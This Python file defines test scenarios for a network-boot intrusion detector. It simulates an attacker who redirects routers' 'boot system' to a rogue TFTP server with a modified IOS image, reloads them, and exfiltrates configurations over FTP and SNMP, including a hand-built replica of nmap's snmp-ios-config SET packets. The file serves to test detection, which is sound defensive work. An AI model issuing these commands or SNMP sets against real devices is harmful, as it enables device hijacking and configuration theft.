"""Orders and files as the lab's programs send them: Linux's segments, telnetd, nginx, pyftpdlib, net-snmp, nmap."""

from __future__ import annotations

import zlib
from ipaddress import IPv4Address

from bootwarden.scenarios.model import Expect, Notice, scenario
from bootwarden.scenarios.sites import ADMIN, ATTACKER, BOOT_SERVER, HQ, IMAGE, ROGUE
from bootwarden.traffic import ftp, images, snmp, telnet, tftp
from bootwarden.traffic.wire import Tcp, Wire

WRAPPED, SCROLLED, PASTED, BY_HTTP, BY_FTP, BY_SNMP, BY_NMAP = (f"10.0.1.{last}" for last in range(81, 88))
FILE = "images/ios/c2900-universalk9-mz.SPA.152-4.M3.with-something-added.bin"
EVIL = f"boot system tftp://{ROGUE}/{FILE}"
COPY, RELOAD = "1.3.6.1.4.1.9.9.96.1.1.1.1", "1.3.6.1.4.1.9.2.9.9.0"


def session(wire: Wire, client: str, device: str) -> telnet.Telnet:
    """Logged in through telnetd, in configuration mode. telnet sends each key by itself."""
    asked = telnet.Telnet(wire, client, device, prompt="edge1#", by_key=True, enter=b"\r", negotiation=telnet.INETUTILS)
    asked.login("netadmin", "let-me-in")
    asked.prompt = "edge1(config)#"
    asked.typed("configure terminal", "Enter configuration commands, one per line.  End with CNTL/Z.")
    return asked


def restart(asked: telnet.Telnet) -> None:
    """Leave configuration mode, and reload."""
    asked.prompt = "edge1#"
    asked.typed("end")
    asked.typed("reload", prompt="Proceed with reload? [confirm]")
    asked.keys("\r", "\r\n")
    asked.close()


def packed(wire: Wire, device: str, server: str, path: str, text: bytes) -> None:
    """nginx sends a text packed and in chunks, as curl lets it."""
    tcp = Tcp(wire, device, 51418, server, 80)
    tcp.send(
        f"GET {path} HTTP/1.1\r\nHost: {server}\r\nUser-Agent: curl/7.88.1\r\nAccept: */*\r\n"
        "Accept-Encoding: deflate, gzip, br, zstd\r\n\r\n".encode()
    )
    packer = zlib.compressobj(wbits=31)
    body = packer.compress(text) + packer.flush()
    head = (
        "HTTP/1.1 200 OK\r\nServer: nginx/1.22.1\r\nDate: Mon, 05 Jan 2026 08:00:00 GMT\r\n"
        "Content-Type: text/plain\r\nTransfer-Encoding: chunked\r\nConnection: keep-alive\r\n"
        'ETag: W/"6b088c97-159"\r\nContent-Encoding: gzip\r\n\r\n'
    )
    tcp.reply(head.encode() + b"%x\r\n" % len(body) + body + b"\r\n0\r\n\r\n")
    tcp.close()


def copy(server: str) -> list[snmp.Binding]:
    """net-snmp sets the whole row at once."""
    return snmp.row(COPY, 111, {2: 1, 3: 1, 4: 4, 5: IPv4Address(server), 6: "evil.cfg", 14: 4})


def _tlv(tag: int, content: bytes) -> bytes:
    return bytes([tag, len(content)]) + content


def by_nmap(wire: Wire, attacker: str, device: str) -> None:
    """nmap's snmp-ios-config: version 1, a value a request, an address whose type nobody knows, its own TFTP server."""
    manager = snmp.Manager(wire, attacker, device)
    octets = b"".join(_tlv(4, octet.encode()) for octet in attacker.split("."))
    one, four = b"\2\1\1", b"\2\1\4"
    columns = (
        (2, one), (3, four), (4, one), (5, b"40" + bytes([len(octets)]) + octets), (15, one),
        (16, _tlv(4, attacker.encode())), (6, _tlv(4, f"{device}-config".encode())), (14, one),
    )  # fmt: skip
    for column, value in columns:
        oid = _tlv(6, bytes.fromhex("2b0601040109096001010101") + bytes([column]) + b"\xce\x0f")
        set_request = b"\2\2\x6f\x0c\2\1\0\2\1\0" + _tlv(0x30, _tlv(0x30, oid + value))
        manager.send(_tlv(0x30, b"\2\1\0" + _tlv(4, b"private") + _tlv(0xA3, set_request)))
    tftp.write(wire, device, attacker, f"{device}-config", images.config("edge87"))


TYPED = (WRAPPED, SCROLLED, PASTED)
ORDERED = (
    *(alert for device in TYPED for alert in (("BW05", 3, ATTACKER, device), ("BW07", 0, ATTACKER, device))),
    ("BW08", 2, ROGUE, BY_HTTP),
    ("BW03", 1, ATTACKER, BY_SNMP),
    ("BW05", 0, ATTACKER, BY_SNMP),
    ("BW30", 1, ATTACKER, BY_SNMP),
    ("BW03", 0, ATTACKER, BY_NMAP),
)


@scenario(
    "BW30",
    "malicious",
    raises=ORDERED,
    raises_with_site=[
        *ORDERED,
        ("BW10", 11, ROGUE, BY_HTTP),
        ("BW10", 12, ROGUE, BY_FTP),
        ("BW18", 0, BY_NMAP, ATTACKER),
    ],
    site=HQ,
    with_site=Expect(
        (
            *(Notice("Boot_Command", device, ROGUE, FILE) for device in TYPED),
            *(Notice("Remote_Reload", device) for device in (*TYPED, BY_SNMP)),
            Notice("Unauthorized_Boot_Server", BY_HTTP, ROGUE, "/edge74-confg"),
            Notice("Boot_Config_Served", BY_HTTP, ROGUE, "/edge74-confg"),
            Notice("Unauthorized_Boot_Server", BY_FTP, ROGUE, IMAGE),
            Notice("Modified_Image", BY_FTP, ROGUE, IMAGE),
            Notice("Config_Exfiltration", BY_FTP, ROGUE, "edge75-confg"),
            Notice("SNMP_Config_Copy", BY_SNMP, ROGUE, "evil.cfg"),
            Notice("Netboot_Hijack", BY_SNMP),
            Notice("SNMP_Config_Copy", BY_NMAP, ATTACKER, f"{BY_NMAP}-config"),
            Notice("Config_Exfiltration", BY_NMAP, ATTACKER, f"{BY_NMAP}-config"),
        )
    ),
)
def bw30_orders_of_the_lab(wire: Wire) -> None:
    """Telnet in 80 columns (wrapped, scrolled, pasted), nginx's packed text, FTP both ways and SNMP, by Linux' TCP."""
    wire.linux = True
    for device, editor in ((WRAPPED, telnet.wrapping), (SCROLLED, telnet.scrolling)):
        asked = session(wire, ATTACKER, device)
        asked.edited(EVIL, editor, 80)
        restart(asked)
    asked = session(wire, ATTACKER, PASTED)
    asked.keys(f"{EVIL}\r", f"\r\0<{EVIL[-52:]}\r\n{asked.prompt}")
    restart(asked)
    packed(wire, BY_HTTP, ROGUE, "/edge74-confg", images.config("edge74", (EVIL,)))
    ftp.retrieve(wire, BY_FTP, ROGUE, IMAGE, images.ios(seed="with something added"), extended=True)
    ftp.store(
        wire, BY_FTP, ROGUE, "edge75-confg", images.config("edge75"), extended=True, client_port=50023, data_port=40121
    )
    manager = snmp.Manager(wire, ATTACKER, BY_SNMP)
    manager.set(*copy(ROGUE))
    manager.set((RELOAD, 2))
    by_nmap(wire, ATTACKER, BY_NMAP)


@scenario(
    "BW30",
    "benign",
    raises=[
        ("BW07", 0, ADMIN, WRAPPED),
        ("BW07", 0, ADMIN, SCROLLED),
        ("BW08", 2, BOOT_SERVER, BY_HTTP),
        ("BW03", 1, ADMIN, BY_SNMP),
    ],
    raises_with_site=[],
    site=HQ,
    with_site=Expect(),
)
def bw30_orders_of_the_lab_declared(wire: Wire) -> None:
    """An administrator does the same with the declared server and the approved image; nothing is restarted."""
    wire.linux = True
    good = f"boot system tftp://{BOOT_SERVER}/{IMAGE}"
    for device, editor in ((WRAPPED, telnet.wrapping), (SCROLLED, telnet.scrolling)):
        asked = session(wire, ADMIN, device)
        asked.edited(good, editor, 80)
        asked.close()
    packed(wire, BY_HTTP, BOOT_SERVER, "/edge74-confg", images.config("edge74", (good,)))
    ftp.retrieve(wire, BY_FTP, BOOT_SERVER, IMAGE, images.ios(), extended=True)
    ftp.store(
        wire,
        BY_FTP,
        BOOT_SERVER,
        "edge75-confg",
        images.config("edge75"),
        extended=True,
        client_port=50023,
        data_port=40121,
    )
    snmp.Manager(wire, ADMIN, BY_SNMP).set(*copy(BOOT_SERVER))
